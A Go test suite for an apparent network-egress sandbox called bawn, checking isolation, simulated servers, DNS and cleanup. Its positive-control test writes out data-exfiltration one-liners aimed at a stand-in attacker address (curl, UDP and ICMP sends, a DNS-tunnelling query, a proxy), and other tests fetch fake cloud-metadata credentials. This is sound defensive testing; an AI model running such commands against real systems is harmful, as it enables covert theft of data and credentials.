// Copyright The Bawn Authors.
// SPDX-License-Identifier: Apache-2.0

package world_test

import (
	"bufio"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"bawn/internal/roottest"
	"bawn/internal/world"
)

// holdArg makes this test program open a world and keep it until it is killed.
const holdArg = "hold-a-world"

func TestMain(m *testing.M) {
	world.Main()
	if len(os.Args) == 2 && os.Args[1] == holdArg {
		hold()
	}
	os.Exit(m.Run())
}

func hold() {
	w, err := world.Open(context.Background())
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	cmd := w.Host.Command(context.Background(), "sleep", "1000")
	if err := cmd.Start(); err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	fmt.Println(w.Host.File(""))
	select {}
}

// open gives a test a world of its own.
func open(t *testing.T) *world.World {
	t.Helper()
	roottest.Require(t)
	return world.New(t)
}

// run runs a shell line on the host and returns what it printed.
func run(t *testing.T, w *world.World, line string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	out, err := w.Host.Command(ctx, "sh", "-c", line).CombinedOutput()
	return string(out), err
}

func TestTheMachineIsOutOfReach(t *testing.T) {
	w := open(t)
	before, err := os.ReadFile("/etc/passwd")
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Host.AddUser(t.Context(), "visitor"); err != nil {
		t.Fatal(err)
	}
	after, err := os.ReadFile("/etc/passwd")
	if err != nil || string(after) != string(before) {
		t.Errorf("an account of the host shows in the machine's /etc/passwd (%v)", err)
	}
	out, err := w.Host.CommandAs(t.Context(), "visitor", "sh", "-c", "id -un; cd; pwd; touch file").CombinedOutput()
	if err != nil || string(out) != "visitor\n/home/visitor\n" {
		t.Errorf("as visitor: %v: %s", err, out)
	}
	for _, dir := range []string{"/usr", "/root", "/usr/local/bin"} {
		if out, err := run(t, w, "touch "+dir+"/bawn-was-here"); err == nil {
			t.Errorf("the host can write in the machine's %s: %s", dir, out)
		}
	}
	out2, err := run(t, w, "ip -o link | wc -l; ip -o link show lo; ls /sys/class/net; cat /proc/1/comm; ps ax | wc -l")
	if err != nil || !strings.HasPrefix(out2, "2\n") || !strings.Contains(out2, "\neth0\nlo\n") {
		t.Errorf("the host has other links than its own: %v: %s", err, out2)
	}
}

// TestWithoutBawn is the positive control of every test that counts zero: on a
// host without a boundary, each way out works and is counted.
func TestWithoutBawn(t *testing.T) {
	w := open(t)
	n := w.Names
	for name, test := range map[string]struct{ line, proto string }{
		"TCP":                {"curl -sS -m 5 http://" + world.AttackerAddr + ":6667/", "tcp"},
		"TCP over IPv6":      {"curl -sS -m 5 -g 'http://[" + world.AttackerAddr6 + "]:81/'", "tcp"},
		"HTTPS by name":      {"curl -sS -m 5 https://" + n.Evil + "/?secret", "tcp"},
		"UDP":                {"python3 -c 'import socket; socket.socket(2,2).sendto(b\"secret\",(\"" + world.AttackerAddr + "\",443))'", "udp"},
		"ICMP":               {"ping -c 1 -W 5 " + world.AttackerAddr, "icmp"},
		"ICMPv6":             {"ping -c 1 -W 5 " + world.AttackerAddr6, "icmp6"},
		"a name that tells":  {"getent hosts c2VjcmV0." + n.Evil, "udp"},
		"DNS to its server":  {"python3 -c 'import socket; s=socket.create_connection((\"" + world.AttackerAddr + "\",53)); s.send(b\"x\")'", "tcp"},
		"a proxy of its own": {"curl -sS -m 5 -p -x http://" + world.AttackerAddr + ":3128 https://" + n.API + "/", "tcp"},
	} {
		t.Run(name, func(t *testing.T) {
			if err := w.Attacker.Forget(); err != nil {
				t.Fatal(err)
			}
			out, _ := run(t, w, test.line)
			got, err := w.Attacker.Packets()
			if err != nil {
				t.Fatal(err)
			}
			for _, p := range got {
				if p.Proto == test.proto {
					return
				}
			}
			t.Errorf("%s: the attacker counts %v\n%s", test.line, got, out)
		})
	}
}

func TestAttackerCountsOnlyWhatReachesIt(t *testing.T) {
	w := open(t)
	if out, err := run(t, w, "curl -sS https://"+w.Names.API+"/x"); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	got, err := w.Attacker.Packets()
	if err != nil || len(got) != 0 {
		t.Errorf("the attacker counts %v (%v)", got, err)
	}
}

func TestServers(t *testing.T) {
	w := open(t)
	n := w.Names
	for name, test := range map[string]struct{ line, want string }{
		"API":                {"curl -sS https://" + n.API + "/x?y=1", `"target":"/x?y=1","host":"api.example.com"`},
		"API over IPv6":      {"curl -sS -6 https://" + n.API + "/x", `"target":"/x"`},
		"plain HTTP":         {"curl -sS http://" + n.API + "/x", `"target":"/x"`},
		"another port":       {"curl -sS https://" + n.API + ":8443/x", `"target":"/x"`},
		"HTTP/2":             {"curl -sS https://" + n.H2 + "/x", `"host":"h2.example.com","proto":"HTTP/2.0"`},
		"or HTTP/1.1":        {"curl -sS --http1.1 https://" + n.H2 + "/x", `"host":"h2.example.com","proto":"HTTP/1.1"`},
		"HTTP/2 alone":       {"curl -sS https://" + n.H2Only + "/x", `"host":"h2only.example.com","proto":"HTTP/2.0"`},
		"nothing else":       {"curl -sS --http1.1 https://" + n.H2Only + "/x || true", "alert|Empty reply"},
		"interim answers":    {"curl -sSi https://" + n.H2 + "/early", "HTTP/2 103"},
		"early refusal":      {"head -c 50000000 /dev/zero | curl -sSi --http1.1 -T - https://" + n.H2 + "/refuse", "too large"},
		"broken off":         {"curl -sS -o /dev/null https://" + n.H2 + "/break || true", "stream 1 was not closed cleanly|INTERNAL_ERROR"},
		"below the wildcard": {"curl -sS https://a.b." + n.Wild + "/", `"host":"a.b.wild.example.com"`},
		"alias":              {"curl -sS https://www.example.com/", `"host":"www.example.com"`},
		"redirect":           {"curl -sSi 'https://" + n.API + "/redirect?to=http://169.254.169.254/'", "Location: http://169.254.169.254/"},
		"metadata":           {"curl -sS http://" + world.MetadataAddr + "/latest/", "AKIAEXAMPLE"},
		"metadata by name":   {"curl -sS http://" + n.Meta + "/latest/", "AKIAEXAMPLE"},
		"private service":    {"curl -sS https://" + n.LAN + "/x", `"host":"models.corp.example"`},
		"database":           {"python3 -c 'import socket; s=socket.create_connection((\"" + n.Database + "\",5432)); s.send(b\"q\\n\"); print(s.recv(99))'", "row: q"},
		"no such name":       {"curl -sS https://" + n.Gone + "/ || true", "Could not resolve"},
		"refusing":           {"curl -sS http://" + world.RefusedAddr + "/ || true", "Failed to connect"},
		"self-signed":        {"curl -sS https://" + n.SelfSigned + "/ || true", "self-signed certificate"},
		"expired":            {"curl -sS https://" + n.Expired + "/ || true", "has expired"},
		"wrong host":         {"curl -sS https://" + n.WrongHost + "/ || true", "does not match|no alternative"},
		"not yet valid":      {"curl -sS https://" + n.NotYet + "/ || true", "not yet valid"},
		"issuer's limits":    {"curl -sS https://" + n.Confined + "/ || true", "permitted subtree violation"},
		"a short key":        {"curl -sS https://" + n.Weak + "/ || true", "key too weak"},
		"unknown root":       {"curl -sS https://" + n.UnknownCA + "/ || true", "unable to get local issuer"},
		"Python index":       {"curl -sS https://" + n.PyPI + "/simple/greeting/", "greeting-1.0-py3-none-any.whl"},
		"module proxy":       {"curl -sS https://" + n.GoProxy + "/example.com/greeting/@v/list", "v1.0.0"},
		"npm registry":       {"curl -sS https://" + n.NPM + "/greeting", `"integrity":"sha512-`},
		"git":                {"cd /tmp && git clone -q https://" + n.Git + "/tools/hello.git && cat hello/README", "hello from the world"},
	} {
		t.Run(name, func(t *testing.T) {
			out, err := run(t, w, test.line)
			for want := range strings.SplitSeq(test.want, "|") {
				if err == nil && strings.Contains(out, want) {
					return
				}
			}
			t.Errorf("%s: %v: %s", test.line, err, out)
		})
	}
}

func TestRecordsKeepTheExactHead(t *testing.T) {
	w := open(t)
	line := "curl -sS -H 'X-Odd:  two  spaces ' -H 'Expect:' -d body https://" + w.Names.API + "/p"
	if out, err := run(t, w, line+"; "+line); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	got, err := w.Upstream.Requests(w.Names.API)
	if err != nil || len(got) != 2 {
		t.Fatalf("the API host got %d requests (%v), want 2", len(got), err)
	}
	sum := sha256.Sum256([]byte("body"))
	r := got[1]
	if !strings.HasPrefix(string(r.Head), "POST /p HTTP/1.1\r\nHost: api.example.com\r\n") || !strings.Contains(string(r.Head), "\r\nX-Odd:  two  spaces ") ||
		!strings.HasSuffix(string(r.Head), "\r\n\r\n") || r.Body != 4 || r.SHA256 != hex.EncodeToString(sum[:]) || r.SNI != w.Names.API {
		t.Errorf("got %+v, head %q", r, r.Head)
	}
	if err := w.Upstream.Forget(); err != nil {
		t.Fatal(err)
	}
	if got, err := w.Upstream.Requests(""); err != nil || len(got) != 0 {
		t.Errorf("after Forget: %v, %v", got, err)
	}
}

func TestChunkedBodiesAreCounted(t *testing.T) {
	w := open(t)
	out, err := run(t, w, "seq 100000 | curl -sS -T - -H 'Transfer-Encoding: chunked' https://"+w.Names.API+"/upload; curl -sS https://"+w.Names.API+"/after")
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	var echo world.Echo
	if err := json.NewDecoder(strings.NewReader(out)).Decode(&echo); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	got, err := w.Upstream.Requests("")
	if err != nil || len(got) != 2 {
		t.Fatalf("got %d requests (%v), want 2", len(got), err)
	}
	if got[0].Body != 588895 || got[0].Body != echo.BodyBytes || got[0].SHA256 != echo.SHA256 {
		t.Errorf("record %d %s, echo %d %s", got[0].Body, got[0].SHA256, echo.BodyBytes, echo.SHA256)
	}
}

func TestEventsComeBeforeTheEnd(t *testing.T) {
	w := open(t)
	cmd := w.Host.Command(t.Context(), "curl", "-sSN", "https://"+w.Names.API+"/sse?gate=one")
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	r := bufio.NewReader(stdout)
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			t.Fatalf("before the first event: %v", err)
		}
		if line == "data: 0\n" {
			break
		}
	}
	if err := w.Upstream.Release("one"); err != nil {
		t.Fatal(err)
	}
	rest, err := io.ReadAll(r)
	if err != nil || !strings.Contains(string(rest), "data: 2\n") {
		t.Errorf("after the gate opened: %q, %v", rest, err)
	}
	if err := cmd.Wait(); err != nil {
		t.Error(err)
	}
}

func TestDownloadIsThePattern(t *testing.T) {
	w := open(t)
	sum := sha256.New()
	if _, err := io.Copy(sum, world.Pattern(100e6)); err != nil {
		t.Fatal(err)
	}
	out, err := run(t, w, "curl -sS 'https://"+w.Names.Files+"/download?bytes=100000000' | sha256sum")
	if want := hex.EncodeToString(sum.Sum(nil)); err != nil || !strings.HasPrefix(out, want) {
		t.Errorf("got %s (%v), want %s", out, err, want)
	}
}

func TestAnswersTakeTurns(t *testing.T) {
	w := open(t)
	if err := w.DNS.Set("turn.example.com", world.Answer{Addrs: []string{"1.1.1.1"}}, world.Answer{Addrs: []string{"2.2.2.2"}}); err != nil {
		t.Fatal(err)
	}
	var got []string
	for range 3 {
		out, _ := run(t, w, "getent ahostsv4 turn.example.com | cut -d' ' -f1 | head -1")
		got = append(got, strings.TrimSpace(out))
	}
	if want := "1.1.1.1 2.2.2.2 2.2.2.2"; strings.Join(got, " ") != want {
		t.Errorf("got %v, want %s", got, want)
	}
	queries, err := w.DNS.Queries()
	if err != nil || len(queries) != 3 || queries[0].Name != "turn.example.com" || queries[0].Type != "A" {
		t.Errorf("queries: %v, %v", queries, err)
	}
}

func TestPretence(t *testing.T) {
	w := open(t)
	p := world.Pretence{
		Answer: []byte("HTTP/1.1 201 Made\r\nContent-Length: 2\r\n\r\nhi"),
		Zone:   map[string][]world.Answer{"a.example": {{Addrs: []string{"8.8.8.8"}}}, "b.example": {{Fail: true}}},
	}
	if err := w.Upstream.Pretend(p); err != nil {
		t.Fatal(err)
	}
	out, err := run(t, w, "curl -sSi https://a.example/x; curl -sSi http://other.example:81/y; curl -sS -g 'http://[2001:4860::1]/z'; curl -s https://b.example/ || true")
	if err != nil || !strings.Contains(out, "201 Made\r\nContent-Length: 2\r\n\r\nhi") || strings.Count(out, "hi") != 3 {
		t.Errorf("%v: %s", err, out)
	}
	streams, err := w.Upstream.Streams("")
	if err != nil || len(streams) != 3 || streams[0].SNI != "a.example" || !strings.HasPrefix(string(streams[1].Bytes), "GET /y ") {
		t.Errorf("%+v, %v", streams, err)
	}
	if err := w.Upstream.Pretend(world.Pretence{Opaque: true}); err != nil {
		t.Fatal(err)
	}
	if out, err := run(t, w, "echo some bytes | timeout 1 python3 -c 'import socket,sys; s=socket.create_connection((\"9.9.9.9\",5432)); s.sendall(b\"bytes\"); s.close()'"); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if streams, err = w.Upstream.Streams(""); err != nil || len(streams) != 4 || string(streams[3].Bytes) != "bytes" {
		t.Errorf("%+v, %v", streams, err)
	}
}

func TestWireCountsByDestination(t *testing.T) {
	w := open(t)
	if err := w.ForgetWire(); err != nil {
		t.Fatal(err)
	}
	_, _ = run(t, w, "curl -m 1 http://203.0.113.9:81/")
	flows, err := w.Wire()
	if err != nil || len(flows) != 1 || flows[0].Proto != "tcp" || flows[0].Dst.String() != "203.0.113.9" || flows[0].DstPort != 81 {
		t.Errorf("flows: %v, %v", flows, err)
	}
}

func TestCloseEndsEverythingThatWasStarted(t *testing.T) {
	roottest.Require(t)
	w, err := world.Open(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	// A process that leaves its session and group, in a cgroup and with a mount of its own.
	out, err := run(t, w, `for d in /sys/fs/cgroup/unified /sys/fs/cgroup; do test -e $d/cgroup.procs && mkdir -p $d/left/deep; done
		ip netns add left && (setsid sleep 1000 >/dev/null 2>&1 &) && useradd left`)
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if err := w.Close(); err != nil {
		t.Error(err)
	}
	if err := w.Close(); err != nil {
		t.Errorf("the second Close: %v", err)
	}
}

func TestAKilledProgramLeavesNothing(t *testing.T) {
	roottest.Require(t)
	cmd := exec.Command(os.Args[0], holdArg)
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	line, err := bufio.NewReader(stdout).ReadString('\n')
	if err != nil {
		t.Fatalf("starting: %v", err)
	}
	dir := strings.TrimSpace(line)
	if _, err := os.Stat(dir); err != nil {
		t.Fatalf("%v: %s", err, line)
	}
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
	for range 500 { // the kernel ends the processes by itself
		if !anyProcessNames(t, filepath.Base(dir)) {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	w, err := world.Open(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Error(err)
	}
	if _, err := os.Stat(dir); err == nil {
		t.Errorf("%s is still there after the next world", dir)
	}
	left, err := filepath.Glob("/sys/fs/cgroup/*/" + filepath.Base(dir))
	if err != nil || len(left) > 0 {
		t.Errorf("cgroups left: %v (%v)", left, err)
	}
}

// anyProcessNames reports whether a process has a file of the world open or is
// in a cgroup of it.
func anyProcessNames(t *testing.T, name string) bool {
	t.Helper()
	files, err := filepath.Glob("/proc/[0-9]*/cgroup")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if text, err := os.ReadFile(f); err == nil && strings.Contains(string(text), name) {
			return true
		}
	}
	return false
}
